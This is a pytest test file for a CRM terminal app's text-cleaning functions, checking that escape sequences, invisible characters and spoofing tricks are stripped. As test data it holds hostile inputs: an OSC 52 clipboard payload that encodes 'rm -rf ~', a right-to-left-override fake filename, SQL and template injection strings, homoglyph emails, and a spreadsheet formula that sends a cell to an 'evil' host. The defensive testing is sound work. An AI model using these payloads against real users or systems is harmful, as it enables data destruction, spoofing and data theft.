from __future__ import annotations

import json
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_tui.text.clean import clean_line, clean_text, clip, is_mixed_script

NASTY = Path(__file__).parents[3] / "shared" / "data" / "nasty.json"

# Pieces that change their meaning beside each other; single random characters would rarely meet.
PIECES = [
    *["\x1b", "\x1b[", "31m", "\x9b", "\x1b]", "0;title", "\x07", "\x1b\\", "\x9c", "\x90", "\x1bc", "\x1b(B", "\\", "["],
    *["a", "ש", " ", "  ", "\n", "\r", "\r\n", "\t", "\xa0", "\u3000", "\x85", "\u2028", "\x0b", "\x00", "\b", "\x7f"],
    *["\u200b", "\u200c", "\u200d", "\u202e", "\u2066", "\ufeff", "\ufe0f", "\ufe00", "\U000e0100", "\ufe0e"],
    *["👩", "👧", "❤", "🏽", "🏴", "🇮", "1", "#", "\u20e3", "一"],
    *["\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U000e0001", "\U000e0061"],
    *["\u0301", "\u0301" * 7, "\u05b8", "\ud83d", "\ude00", "\uffff", "\ufdd0", "\U0001ffff", "\u3164", "\ue000"],
]
texts = st.lists(st.sampled_from(PIECES) | st.characters(exclude_categories=())).map("".join)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x1b[31mRED", "aRED"),
        ("a\x1b[1;1Hspoof", "aspoof"),
        ("a\x1b[?1049lb", "ab"),
        ("a\x1b[2 qb", "ab"),
        ("a\x9b31mb", "ab"),
        ("a\x1b]52;c;cm0gLXJmIH4=\x1b\\b", "ab"),
        ("a\x1b]0;pwned\x07b", "ab"),
        ("a\x9d0;pwned\x9cb", "ab"),
        ("a\x1bP$qm\x1b\\b", "ab"),
        ("a\x1b_apc\x1b\\b\x1b^pm\x1b\\c\x1bXsos\x1b\\d", "abcd"),
        ("a\x1bcb", "ab"),
        ("a\x1b(Bb", "ab"),
        ("a\x1b#8b", "ab"),
        # Not well formed: the introducer goes, what was typed stays.
        ("a\x1b]0;typed text", "a0;typed text"),
        ("a\x1b[31שלום", "a31שלום"),
        ("a\x1b]one\x1b[31mtwo\x07", "aonetwo"),
        ("a\x1b", "a"),
        ("a\x1b שלום", "a שלום"),
        ("a\x1bשלום", "aשלום"),
        ("â\x80\x9dtyped textâ\x80\x9c", "âtyped textâ"),
    ],
)
def test_escape_sequences_go_as_a_whole(value: str, expected: str) -> None:
    assert clean_line(value) == expected
    assert clean_text(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x00b\x7fc\x84d", "abcd"),
        ("abc\b\b\bxyz", "abcxyz"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("\u2067abc \u20aa100", "abc ₪100"),
        ("\u061c123\u200e\u200f", "123"),
        ("Mo\u200bshe\u2060 \u00adCo\u200dhen\u200c", "Moshe Cohen"),
        ("\ufeffname", "name"),
        ("a\u3164\u115f\u1160\uffa0b", "ab"),
        ("a\uffff\ufdd0\U0010fffeb", "ab"),
        ("a\ud83db", "ab"),
        ("a\ue000b", "a\ue000b"),
        ("a\U000e0041b", "ab"),
        ("ab\ufe0fc\ufe00", "abc"),
    ],
)
def test_invisible_characters_are_removed(value: str, expected: str) -> None:
    assert clean_line(value) == expected
    assert clean_text(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "Moshe Cohen",
        "[@click=app.quit]Moshe[/]",
        "\\[red]x :smile:",
        "{{ ''.__class__ }} {0.__class__} '; DROP TABLE x;--",
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "שָׁלוֹם",
        'צה"ל / צה״ל',
        "בן־דוד – 5%",
        "e\u0301 é",
        "👩‍👩‍👧‍👦 🏳️‍🌈 ❤️ 1️⃣ 👍🏽 🇮🇱 👩🏽‍⚕️",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "葛\U000e0100飾",
        "\ufffd \ue123",
        "x" * 30_000,
    ],
    ids=lambda value: ascii(value)[:30],
)
def test_honest_text_is_left_byte_for_byte(value: str) -> None:
    assert clean_line(value) == value
    assert clean_text(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("🏴\U000e0067\U000e007f", "🏴"),
        ("👩\u200d\u200d👩", "👩👩"),
        ("👩\u200b\u200d👧", "👩\u200d👧"),
        ("\u200d👩\u200d", "👩"),
        ("👩" + "\u200d👩" * 8, "👩" + "\u200d👩" * 7 + "👩"),
        ("❤\ufe0f\ufe0f", "❤\ufe0f"),
    ],
)
def test_joiners_stay_only_in_an_emoji_sequence(value: str, expected: str) -> None:
    assert clean_line(value) == expected


def test_at_most_eight_marks_on_a_letter() -> None:
    assert clean_line("Z" + "\u0301" * 40 + "algo\u0489") == "Z" + "\u0301" * 8 + "algo\u0489"
    assert clean_line("\u0301" * 20) == "\u0301" * 8
    assert clean_text("שׁ\u05b8\u0591 " * 3) == ("שׁ\u05b8\u0591 " * 3).strip()


@pytest.mark.parametrize("value", ["", " ", " \xa0\u3000\t ", "\n\r\n", "\u200b \x00", "\u2003\x0b\x85"])
def test_only_space_is_empty(value: str) -> None:
    assert clean_line(value) == ""
    assert clean_text(value) == ""


def test_a_line_has_single_spaces() -> None:
    assert clean_line("  a  b\t\tc\r\nd\xa0\u3000e\u2028f ") == "a b c d e f"


def test_a_note_keeps_its_lines() -> None:
    assert clean_text(" a\r\nb\rc\x0bd\x0ce\x85f\u2028g\u2029h\n\ni\tj  k\xa0l \n") == "a\nb\nc\nd\ne\nf\ng\nh\n\ni j  k\xa0l"


@given(texts)
def test_cleaning_twice_changes_nothing(value: str) -> None:
    line = clean_line(value)
    assert clean_line(line) == line
    text = clean_text(value)
    assert clean_text(text) == text


@given(texts)
def test_nothing_that_steers_a_terminal_is_left(value: str) -> None:
    for cleaned in (clean_line(value), clean_text(value).replace("\n", "")):
        assert not [character for character in cleaned if unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp")]
        assert not set(cleaned) & set("\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff")
        cleaned.encode()


@given(texts)
def test_a_line_has_no_outer_or_double_space(value: str) -> None:
    cleaned = clean_line(value)
    assert cleaned == " ".join(cleaned.split())


@pytest.mark.parametrize(
    "value",
    ["\x9d" * 50_000, "\x9b" + "1" * 50_000, "\x1b]" * 25_000, "👩\u200d" * 25_000, "a" + "\u0301" * 50_000, "\x90 " * 25_000],
    ids=["osc", "csi", "esc osc", "joiners", "marks", "dcs"],
)
def test_hostile_text_takes_linear_time(value: str) -> None:
    begun = time.perf_counter()
    clean_line(value)
    assert time.perf_counter() - begun < 2


@pytest.mark.parametrize(
    ("text", "mixed"),
    [
        ("p\u0430ypal@example.com", True),
        ("Micr\u03bfsoft", True),
        ("hello \u041f\u0440\u0438\u0432\u0435\u0442", False),
        ("\u0438\u0432\u0430\u043d@example.com", False),
        ("Moshe כהן", False),
        ("Mosheכהן", False),
        ("paypal@example.com", False),
        ("José", False),
        ("", False),
    ],
)
def test_mixed_script(text: str, mixed: bool) -> None:
    assert is_mixed_script(text) is mixed


def test_clip() -> None:
    assert clip(" Moshe\x1b[31m\nCohen ") == "Moshe Cohen"
    assert clip("x" * 60) == "x" * 60
    assert clip("x" * 61) == "x" * 59 + "…"
    assert clip("x" * 10, 5) == "xxxx…"
    assert clip("\x00" * 5000 + "x") == "…"
    assert len(clip("שלום " * 1_000_000)) <= 60


@pytest.mark.skipif(not NASTY.exists(), reason="the shared test values are not here")
def test_nasty_values() -> None:
    for case in json.loads(NASTY.read_text("utf-8")):
        cleaned = clean_text(case["value"])
        assert cleaned.replace("\n", "").isprintable() or "\xa0" in cleaned, case["name"]
        assert clean_line(cleaned) == clean_line(case["value"]), case["name"]
        if case["name"].startswith(("markup-", "sql-", "fts-", "format-", "jinja-", "shell-", "url-", "path-", "csv-at")):
            assert clean_line(case["value"]) == case["value"], case["name"]
        assert is_mixed_script(cleaned) == (case["name"] == "homoglyph-email"), case["name"]
